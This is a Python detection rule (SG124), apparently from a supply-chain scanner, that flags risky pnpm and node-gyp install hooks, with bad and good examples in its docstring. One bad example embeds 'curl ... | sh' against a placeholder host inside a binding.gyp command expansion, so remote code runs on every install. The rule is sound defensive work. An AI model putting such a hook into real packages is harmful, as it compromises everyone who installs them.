"""A file that a package manager runs at every installation starts, fetches or decodes something.

## Why it matters
pnpm loads `.pnpmfile.cjs` before it resolves anything, and a `binding.gyp` makes npm run the commands in it although no
install script is written anywhere: `--ignore-scripts` and a look at `package.json` miss both. Ordinary ones change the
manifests of packages, and ask for compiler flags.

## Bad
~~~js path=.pnpmfile.cjs
const { execSync } = require("child_process");
module.exports = { hooks: { readPackage: (manifest) => manifest } };
~~~

~~~json path=addon/binding.gyp
{"targets": [{"target_name": "addon", "sources": ["<!(curl -s https://files.example.invalid/x | sh)"]}]}
~~~

## Good
~~~js path=.pnpmfile.cjs
module.exports = {
  hooks: {
    readPackage(manifest) {
      delete manifest.dependencies["left-pad"];
      return manifest;
    },
  },
};
~~~

~~~json path=addon/binding.gyp
{"targets": [{"target_name": "addon", "include_dirs": ["<!@(node -p \\"require('node-addon-api').include\\")"]}]}
~~~

## How to fix
Remove the file, or read it and accept it by its digest.

## References
- pnpm documentation, ".pnpmfile.mjs"
- npm documentation, "scripts"
- GYP, "Input Format Reference", "Command Expansions"
"""

from __future__ import annotations

from collections.abc import Iterator

from sbomgate.model import Finding, Severity
from sbomgate.policy import Context, Rule
from sbomgate.rules._hooks import hook_findings


def check(context: Context) -> Iterator[Finding]:
    return hook_findings(RULE, context.inventory.hooks)


RULE = Rule(id="SG124", name="install-hook-is-risky", severity=Severity.HIGH, check=check, doc=__doc__)
